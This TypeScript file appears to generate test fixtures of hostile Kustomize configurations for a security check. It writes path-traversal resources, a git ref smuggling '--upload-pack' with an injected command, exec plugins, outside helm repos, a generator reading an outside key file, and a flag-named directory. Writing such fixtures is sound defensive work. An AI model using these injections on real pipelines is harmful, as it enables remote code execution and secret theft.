import { configMap, type HostileParts } from "./hostileParts.ts";

/** Kustomizations that lead out, in keys of any case, and those that ask servers or run plugins. */
export function hostileKustomizations({ write, link, outside, stranger, mark }: HostileParts): void {
  const remote = `${stranger}/x.git//base?ref=--upload-pack=${mark("kustomize-ref").replaceAll(" ", "${IFS}")}`;
  const texts: Readonly<Record<string, string>> = {
    out: "resources: [../../../outside]",
    absolute: `resources: [${JSON.stringify(outside)}]`,
    "out-case": "Resources: [../../../outside]",
    "out-upper": "RESOURCES: [../../../outside]",
    bases: "Bases: [../../../outside]",
    remote: `resources: [${JSON.stringify(`${stranger}/map.yaml`)}]`,
    "remote-case": `Resources: [${JSON.stringify(`${stranger}/map.yaml`)}]`,
    "remote-git": `resources: [${JSON.stringify(remote)}]`,
    "remote-git-case": `Resources: [${JSON.stringify(remote)}]`,
    generator: "generators: [plugin.yaml]",
    "generator-case": "Generators: [plugin.yaml]",
    transformer: "Transformers: [plugin.yaml]",
    helm: `helmCharts: [{ name: x, repo: ${JSON.stringify(stranger)} }]`,
    "helm-case": `HelmCharts: [{ name: x, repo: ${JSON.stringify(stranger)} }]`,
    "file-generator": "configMapGenerator: [{ name: leak, files: [../../../outside/key.txt] }]",
    "file-generator-case": "ConfigMapGenerator: [{ name: leak, Files: [../../../outside/key.txt] }]",
    unknown: "resources: []\nsomethingNew: [../../../outside]",
  };
  for (const [name, text] of Object.entries(texts)) {
    write(`kustomizations/${name}/kustomization.yaml`, `${text}\n`);
    write(
      `kustomizations/${name}/plugin.yaml`,
      `apiVersion: v1\nkind: Plugin\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: { path: ./run.sh }\n`,
    );
    write(`kustomizations/${name}/run.sh`, `#!/bin/sh\n${mark("kustomize-plugin")}\n`);
  }
  write("kustomizations/linked/kustomization.yaml", "resources: [map.yaml]\n");
  link("kustomizations/linked/map.yaml", `${outside}/map.yaml`);
  write("kustomizations/--enable-helm/kustomization.yaml", "resources: [map.yaml]\n");
  write("kustomizations/--enable-helm/map.yaml", configMap("enable-helm"));
}
